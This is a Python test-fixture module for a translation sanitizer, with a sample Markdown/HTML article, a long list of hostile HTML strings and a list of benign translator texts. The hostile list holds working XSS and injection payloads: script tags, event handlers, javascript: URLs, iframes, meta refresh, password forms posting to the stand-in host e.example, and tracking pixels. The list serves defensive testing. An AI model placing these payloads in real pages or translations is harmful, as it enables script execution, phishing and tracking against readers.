"""What would somebody put into a translation to harm readers, and what do honest translators put there?"""

from __future__ import annotations

ARTICLE = """\
---
title: Front words
---

# Heading words

Paragraph words with *emphasis words*.

- Item words
- [Link words](a.md "Title words")

| Head words | Other words |
|---|---|
| Cell words | More words |

> Quote words

![Picture words](a.png)

See <img alt="Inline words" src="b.png"> here <b>bold</b>.

<div class="box">
<p>Block words</p>
<p>Second words</p>
<img alt="Block alt words" src="c.png">
</div>

<details><summary>Summary words</summary>

Inner words

</details>

Last words.
"""
"""One message in each place that there is."""

HARMFUL = (
    # Tags that browsers read and others do not
    "<img alt=x' src=//e.example/p.gif>",
    "<a title=x' href=//e.example/login>hier",
    "<b title=' style=position:fixed;inset:0>",
    '<b title=" style=position:fixed;inset:0>',
    "<img src=//e.example/p.gif alt='a>b'",
    "<img/src=//e.example/p>",
    "<img\tsrc\n=\n//e.example/p>",
    '<img x="y"src=//e.example/p>',
    "<img =x src=//e.example/p>",
    "<img alt=`>` src=//e.example/p>",
    "<img <b src=//e.example/p>",
    "<IMG SRC=//e.example/p>",
    "<img src=https:e.example/p>",
    "<img src=/\\e.example/p>",
    '<img src="/&Tab;/e.example/p">',
    "<img src='ht\ntps://e.example/p'>",
    "<img src=https://e.example/p",
    "<img src=x src=//e.example/p>",
    "<a/href=//e.example>hier</a>",
    "<a href=//e.example/login>hier</a>",
    "<a href=https://е.example>hier</a>",
    "<a\x0chref=//e.example>hier</a>",
    "<a href=&#x2f;&#x2f;e.example>hier</a>",
    # Code
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>",
    "</script><script>alert(1)</script>",
    "<script><!--<script></script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=//e.example/x.svg#a></svg>",
    "<math><mtext href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNerRor=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img src=x "onerror=alert(1)>',
    "<img alt=x' src=x onerror=alert(1)>",
    "<b onmouseover='alert(1)'>x</b>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=//e.example/a autoplay>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>hier</a>",
    '<a href=" java\tscript:alert(1)">hier</a>',
    '<a href="&#106;avascript:alert(1)">hier</a>',
    '<a href="javascript&colon;alert(1)">hier</a>',
    '<a href="\x01javascript:alert(1)">hier</a>',
    "<a href=vbscript:x>hier</a>",
    "<a href=data:text/html;base64,AA>hier</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=//e.example></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<iframe title=x' src=//e.example>",
    "<frameset><frame src=//e.example></frameset>",
    "<object data=//e.example/x></object>",
    "<embed src=//e.example/x>",
    "<applet code=x></applet>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content='0;url=//e.example'>",
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "<link rel=stylesheet href=//e.example/x.css>",
    "<link rel=dns-prefetch href=//e.example>",
    "<style>@import '//e.example/x.css';</style>",
    "<style>p{display:none}</style>",
    "<style>*{position:fixed}",
    # Overlays and forms
    "<div style=position:fixed;inset:0>x</div>",
    "<p style='position:absolute;top:0;left:0;width:100%'>x</p>",
    "<span style='background:url(//e.example/p)'>x</span>",
    "<a style='position:fixed;inset:0' href=#>x</a>",
    "<dialog open>x</dialog>",
    "<form action=//e.example><input type=password></form>",
    "<input type=password placeholder=Passwort' >",
    "<button formaction=//e.example title='>OK",
    "<input type=image src=//e.example/p>",
    "<select><option>x",
    "<isindex prompt=x action=//e.example>",
    # Other ways to load
    "<img srcset='//e.example/p 2x'>",
    "<img src=a.png srcset=https://e.example/p>",
    "<source srcset=//e.example/p>",
    "<picture><source srcset=//e.example/p><img></picture>",
    "<video poster=//e.example/p></video>",
    "<body background=//e.example/p>",
    "<table background=//e.example/p>",
    "<a href=# ping=//e.example/p>x</a>",
    "<image src=//e.example/p>",
    "<track src=//e.example/p>",
    # What swallows the page
    "<plaintext>",
    "<plaintext title=x'>",
    "<textarea>",
    "<textarea ",
    "<xmp>",
    "<title>",
    "<noembed>",
    "<noframes>",
    "<noscript>",
    '<noscript><img title="</noscript><img src=x onerror=alert(1)>">',
    "<template>",
    "<select>",
    "<svg><title>",
    "<table><tr><td>",
    "<!--",
    "<!-- x",
    "<!-->",
    "<!--->",
    "<!-- x --!>",
    "<!x",
    "<?x",
    "</",
    "</x y='",
    "<![CDATA[",
    "<b",
    "<b ",
    "<b x='",
    '<b x="',
    "<b/",
    "a <b und 3 < 4 <",
    "</p></div></body></html>",
    "</div>",
    "</p><p>",
    "<p><div>",
    "<b>offen",
    "zu</b>",
    "<a name=x>offen",
)
"""Texts that must not change what a page is made of; hosts are `e.example`."""

HONEST = (
    "5 < 7 und 9 > 3",
    "5 <",
    "a & b &amp; c",
    "&lt;script&gt; ist ein Element",
    "“so” ‘so’ \"so\" 'so'",
    "Er sagte: nein; javascript: ist keine Adresse.",
    "JavaScript: eine Einführung",
    "https ist ein Protokoll",
    "und/oder, 24/7, C:\\Ordner",
    "a@b ist keine Adresse",
)
"""Texts of honest translators."""
